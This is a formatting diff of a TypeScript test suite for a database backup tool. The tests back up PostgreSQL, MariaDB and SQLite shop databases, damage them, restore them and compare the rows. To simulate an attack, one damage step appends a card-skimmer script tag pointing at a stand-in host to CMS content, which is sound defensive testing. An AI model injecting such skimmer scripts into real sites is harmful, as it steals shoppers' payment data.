@@ -49,125 +49,137 @@ const blocks = [
 
 type Rows = Record<string, unknown[]>;
 
-test('PostgreSQL: backup, damage, restore to scratch and in place, compare row by row; drill', await pgSkip(), async () => {
-  const name = `ripcord_bk_${randomBytes(5).toString('hex')}`;
-  const admin = new pg.Client({ connectionString: pgAdminUrl });
-  await admin.connect();
-  await admin.query(`CREATE DATABASE ${name}`);
-  const url = new URL(pgAdminUrl);
-  url.pathname = `/${name}`;
-  const c = new pg.Client({ connectionString: url.toString() });
-  await c.connect();
-  const rows = async (db: pg.Client): Promise<Rows> => ({
-    customers: (await db.query('SELECT * FROM customers ORDER BY id')).rows,
-    orders: (await db.query('SELECT * FROM orders ORDER BY id')).rows,
-    cms_block: (await db.query('SELECT * FROM cms_block ORDER BY id')).rows,
-  });
-  const { app, dir } = appWith(`    - {type: postgres, name: shop, database: ${name}, host: ${url.hostname}, port: ${url.port || 5432}}\n`);
-  const scratch: string[] = [];
-  try {
-    await c.query(`CREATE TABLE customers (id int PRIMARY KEY, email text NOT NULL, name text);
+test(
+  'PostgreSQL: backup, damage, restore to scratch and in place, compare row by row; drill',
+  await pgSkip(),
+  async () => {
+    const name = `ripcord_bk_${randomBytes(5).toString('hex')}`;
+    const admin = new pg.Client({ connectionString: pgAdminUrl });
+    await admin.connect();
+    await admin.query(`CREATE DATABASE ${name}`);
+    const url = new URL(pgAdminUrl);
+    url.pathname = `/${name}`;
+    const c = new pg.Client({ connectionString: url.toString() });
+    await c.connect();
+    const rows = async (db: pg.Client): Promise<Rows> => ({
+      customers: (await db.query('SELECT * FROM customers ORDER BY id')).rows,
+      orders: (await db.query('SELECT * FROM orders ORDER BY id')).rows,
+      cms_block: (await db.query('SELECT * FROM cms_block ORDER BY id')).rows,
+    });
+    const { app, dir } = appWith(
+      `    - {type: postgres, name: shop, database: ${name}, host: ${url.hostname}, port: ${url.port || 5432}}\n`,
+    );
+    const scratch: string[] = [];
+    try {
+      await c.query(`CREATE TABLE customers (id int PRIMARY KEY, email text NOT NULL, name text);
       CREATE TABLE orders (id int PRIMARY KEY, customer_id int REFERENCES customers(id), total numeric(10,2));
       CREATE TABLE cms_block (id int PRIMARY KEY, identifier text, content text)`);
-    for (const r of customers) await c.query('INSERT INTO customers VALUES ($1, $2, $3)', r);
-    for (const r of orders) await c.query('INSERT INTO orders VALUES ($1, $2, $3)', r);
-    for (const r of blocks) await c.query('INSERT INTO cms_block VALUES ($1, $2, $3)', r);
-    const before = await rows(c);
+      for (const r of customers) await c.query('INSERT INTO customers VALUES ($1, $2, $3)', r);
+      for (const r of orders) await c.query('INSERT INTO orders VALUES ($1, $2, $3)', r);
+      for (const r of blocks) await c.query('INSERT INTO cms_block VALUES ($1, $2, $3)', r);
+      const before = await rows(c);
 
-    const [res] = await backupRun(app);
-    assert.equal(res?.ok, true, res?.error);
-    assert.deepEqual(res?.rowCounts, { customers: 40, orders: 120, cms_block: 2 });
-    const [listed] = await backupList(app, 'shop');
-    assert.ok(listed?.tags.includes('job:shop') && listed.tags.includes('kind:postgres'));
+      const [res] = await backupRun(app);
+      assert.equal(res?.ok, true, res?.error);
+      assert.deepEqual(res?.rowCounts, { customers: 40, orders: 120, cms_block: 2 });
+      const [listed] = await backupList(app, 'shop');
+      assert.ok(listed?.tags.includes('job:shop') && listed.tags.includes('kind:postgres'));
 
-    // Damage: rows gone, a skimmer injected.
-    await c.query('DELETE FROM orders WHERE id > 60');
-    await c.query(`UPDATE cms_block SET content = content || '<script src="https://evil.example/s.js"></script>'`);
-    assert.notDeepEqual(await rows(c), before);
+      // Damage: rows gone, a skimmer injected.
+      await c.query('DELETE FROM orders WHERE id > 60');
+      await c.query(`UPDATE cms_block SET content = content || '<script src="https://evil.example/s.js"></script>'`);
+      assert.notDeepEqual(await rows(c), before);
 
-    const r1 = await backupRestoreDatabase(app, 'latest', 'shop', {});
-    assert.match(r1.into, /ripcord_restore_shop_/);
-    scratch.push(new URL(r1.into).pathname.slice(1));
-    const s = new pg.Client({ connectionString: `${pgAdminUrl.replace(/\/[^/]*$/, '')}/${scratch[0]}` });
-    await s.connect();
-    assert.deepEqual(await rows(s), before);
-    await s.end();
+      const r1 = await backupRestoreDatabase(app, 'latest', 'shop', {});
+      assert.match(r1.into, /ripcord_restore_shop_/);
+      scratch.push(new URL(r1.into).pathname.slice(1));
+      const s = new pg.Client({ connectionString: `${pgAdminUrl.replace(/\/[^/]*$/, '')}/${scratch[0]}` });
+      await s.connect();
+      assert.deepEqual(await rows(s), before);
+      await s.end();
 
-    const r2 = await backupRestoreDatabase(app, 'latest', 'shop', { inPlace: true });
-    assert.equal(r2.inPlace, true);
-    assert.ok(r2.safetySnapshot !== undefined);
-    assert.deepEqual(await rows(c), before);
-    // The safety snapshot holds the damaged state.
-    const all = await backupList(app, 'shop');
-    const safety = all.find((x) => x.id === r2.safetySnapshot);
-    assert.ok(safety?.tags.includes('safety'));
-    assert.equal(safety?.rowCounts?.['orders'], 60);
+      const r2 = await backupRestoreDatabase(app, 'latest', 'shop', { inPlace: true });
+      assert.equal(r2.inPlace, true);
+      assert.ok(r2.safetySnapshot !== undefined);
+      assert.deepEqual(await rows(c), before);
+      // The safety snapshot holds the damaged state.
+      const all = await backupList(app, 'shop');
+      const safety = all.find((x) => x.id === r2.safetySnapshot);
+      assert.ok(safety?.tags.includes('safety'));
+      assert.equal(safety?.rowCounts?.['orders'], 60);
 
-    const drill = await backupDrill(app);
-    assert.equal(drill.ok, true, JSON.stringify(drill.jobs));
-    assert.equal(drill.jobs[0]?.rows, 162);
-    assert.ok(existsSync(join(dir, 'state', 'backup', 'drills.jsonl')));
-    const left = await admin.query("SELECT 1 FROM pg_database WHERE datname LIKE 'ripcord_restore_shop_%' AND datname <> $1", [
-      scratch[0],
-    ]);
-    assert.equal(left.rowCount, 0, 'the drill dropped its scratch database');
-  } finally {
-    await app.close();
-    await c.end();
-    for (const n of [name, ...scratch]) await admin.query(`DROP DATABASE IF EXISTS ${n} WITH (FORCE)`);
-    await admin.end();
-    rmSync(dir, { recursive: true, force: true });
-  }
-});
+      const drill = await backupDrill(app);
+      assert.equal(drill.ok, true, JSON.stringify(drill.jobs));
+      assert.equal(drill.jobs[0]?.rows, 162);
+      assert.ok(existsSync(join(dir, 'state', 'backup', 'drills.jsonl')));
+      const left = await admin.query(
+        "SELECT 1 FROM pg_database WHERE datname LIKE 'ripcord_restore_shop_%' AND datname <> $1",
+        [scratch[0]],
+      );
+      assert.equal(left.rowCount, 0, 'the drill dropped its scratch database');
+    } finally {
+      await app.close();
+      await c.end();
+      for (const n of [name, ...scratch]) await admin.query(`DROP DATABASE IF EXISTS ${n} WITH (FORCE)`);
+      await admin.end();
+      rmSync(dir, { recursive: true, force: true });
+    }
+  },
+);
 
-test('MariaDB: backup, damage, restore to scratch and in place, compare row by row; drill', await mysqlSkip(), async () => {
-  const name = `ripcord_bk_${randomBytes(5).toString('hex')}`;
-  const u = new URL(mysqlUrl);
-  const admin = await mysql.createConnection({ uri: mysqlUrl, multipleStatements: true });
-  await admin.query(`CREATE DATABASE ${name}`);
-  const rows = async (db: string): Promise<Rows> => {
-    const out: Rows = {};
-    for (const t of ['customers', 'orders', 'cms_block']) out[t] = (await admin.query(`SELECT * FROM ${db}.${t} ORDER BY id`))[0] as unknown[];
-    return out;
-  };
-  const { app, dir } = appWith(
-    `    - {type: mysql, name: shop, database: ${name}, host: ${u.hostname}, port: ${u.port || 3306}, user: ${u.username || 'root'}}\n`,
-  );
-  const scratch: string[] = [];
-  try {
-    await admin.query(`USE ${name};
+test(
+  'MariaDB: backup, damage, restore to scratch and in place, compare row by row; drill',
+  await mysqlSkip(),
+  async () => {
+    const name = `ripcord_bk_${randomBytes(5).toString('hex')}`;
+    const u = new URL(mysqlUrl);
+    const admin = await mysql.createConnection({ uri: mysqlUrl, multipleStatements: true });
+    await admin.query(`CREATE DATABASE ${name}`);
+    const rows = async (db: string): Promise<Rows> => {
+      const out: Rows = {};
+      for (const t of ['customers', 'orders', 'cms_block'])
+        out[t] = (await admin.query(`SELECT * FROM ${db}.${t} ORDER BY id`))[0] as unknown[];
+      return out;
+    };
+    const { app, dir } = appWith(
+      `    - {type: mysql, name: shop, database: ${name}, host: ${u.hostname}, port: ${u.port || 3306}, user: ${u.username || 'root'}}\n`,
+    );
+    const scratch: string[] = [];
+    try {
+      await admin.query(`USE ${name};
       CREATE TABLE customers (id INT PRIMARY KEY, email VARCHAR(200) NOT NULL, name VARCHAR(200)) CHARSET utf8mb4;
       CREATE TABLE orders (id INT PRIMARY KEY, customer_id INT, total DECIMAL(10,2));
       CREATE TABLE cms_block (id INT PRIMARY KEY, identifier VARCHAR(100), content MEDIUMTEXT);`);
-    await admin.query(`INSERT INTO ${name}.customers VALUES ?`, [customers]);
-    await admin.query(`INSERT INTO ${name}.orders VALUES ?`, [orders]);
-    await admin.query(`INSERT INTO ${name}.cms_block VALUES ?`, [blocks]);
-    const before = await rows(name);
+      await admin.query(`INSERT INTO ${name}.customers VALUES ?`, [customers]);
+      await admin.query(`INSERT INTO ${name}.orders VALUES ?`, [orders]);
+      await admin.query(`INSERT INTO ${name}.cms_block VALUES ?`, [blocks]);
+      const before = await rows(name);
 
-    const [res] = await backupRun(app);
-    assert.equal(res?.ok, true, res?.error);
-    assert.deepEqual(res?.rowCounts, { cms_block: 2, customers: 40, orders: 120 });
+      const [res] = await backupRun(app);
+      assert.equal(res?.ok, true, res?.error);
+      assert.deepEqual(res?.rowCounts, { cms_block: 2, customers: 40, orders: 120 });
 
-    await admin.query(`DELETE FROM ${name}.orders WHERE id > 60; DROP TABLE ${name}.cms_block`);
+      await admin.query(`DELETE FROM ${name}.orders WHERE id > 60; DROP TABLE ${name}.cms_block`);
 
-    const r1 = await backupRestoreDatabase(app, 'latest', 'shop', {});
-    const sname = new URL(r1.into).pathname.slice(1);
-    scratch.push(sname);
-    assert.deepEqual(await rows(sname), before);
+      const r1 = await backupRestoreDatabase(app, 'latest', 'shop', {});
+      const sname = new URL(r1.into).pathname.slice(1);
+      scratch.push(sname);
+      assert.deepEqual(await rows(sname), before);
 
-    const r2 = await backupRestoreDatabase(app, 'latest', 'shop', { inPlace: true });
-    assert.ok(r2.safetySnapshot !== undefined);
-    assert.deepEqual(await rows(name), before);
+      const r2 = await backupRestoreDatabase(app, 'latest', 'shop', { inPlace: true });
+      assert.ok(r2.safetySnapshot !== undefined);
+      assert.deepEqual(await rows(name), before);
 
-    const drill = await backupDrill(app);
-    assert.equal(drill.ok, true, JSON.stringify(drill.jobs));
-  } finally {
-    await app.close();
-    for (const n of [name, ...scratch]) await admin.query(`DROP DATABASE IF EXISTS ${n}`);
-    await admin.end();
-    rmSync(dir, { recursive: true, force: true });
-  }
-});
+      const drill = await backupDrill(app);
+      assert.equal(drill.ok, true, JSON.stringify(drill.jobs));
+    } finally {
+      await app.close();
+      for (const n of [name, ...scratch]) await admin.query(`DROP DATABASE IF EXISTS ${n}`);
+      await admin.end();
+      rmSync(dir, { recursive: true, force: true });
+    }
+  },
+);
 
 test('SQLite: online backup, damage, restore to a file and in place, compare row by row', async () => {
   const { app, dir } = appWith('    - {type: sqlite, name: shop, path: ./shop.db}\n');
@@ -183,9 +195,11 @@ test('SQLite: online backup, damage, restore to a file and in place, compare row
     db.exec(`CREATE TABLE customers (id INTEGER PRIMARY KEY, email TEXT NOT NULL, name TEXT);
       CREATE TABLE orders (id INTEGER PRIMARY KEY, customer_id INTEGER, total REAL);
       CREATE TABLE cms_block (id INTEGER PRIMARY KEY, identifier TEXT, content TEXT);`);
-    for (const r of customers) db.prepare('INSERT INTO customers VALUES (?, ?, ?)').run(...(r as [number, string, string]));
+    for (const r of customers)
+      db.prepare('INSERT INTO customers VALUES (?, ?, ?)').run(...(r as [number, string, string]));
     for (const r of orders) db.prepare('INSERT INTO orders VALUES (?, ?, ?)').run(...(r as [number, number, number]));
-    for (const r of blocks) db.prepare('INSERT INTO cms_block VALUES (?, ?, ?)').run(...(r as [number, string, string]));
+    for (const r of blocks)
+      db.prepare('INSERT INTO cms_block VALUES (?, ?, ?)').run(...(r as [number, string, string]));
     const before = rows(db);
 
     // The connection stays open (the shop is running) while the backup is taken.
@@ -219,7 +233,10 @@ test('a dump tool that dies half-way leaves no snapshot and raises an alert', aw
   const tools = mkdtempSync(join(tmpdir(), 'ripcord-fake-dump-'));
   const fake = join(tools, 'pg_dump');
   // Prints the start of a custom-format dump, then fails like a dropped connection.
-  writeFileSync(fake, '#!/bin/sh\nprintf "PGDMP\\001\\016\\000\\004\\010\\001\\001some data"\necho "pg_dump: error: connection lost" >&2\nexit 3\n');
+  writeFileSync(
+    fake,
+    '#!/bin/sh\nprintf "PGDMP\\001\\016\\000\\004\\010\\001\\001some data"\necho "pg_dump: error: connection lost" >&2\nexit 3\n',
+  );
   chmodSync(fake, 0o755);
   const { app, dir } = appWith(`    - {type: postgres, name: broken, database: postgres, command: ${fake}}\n`);
   try {
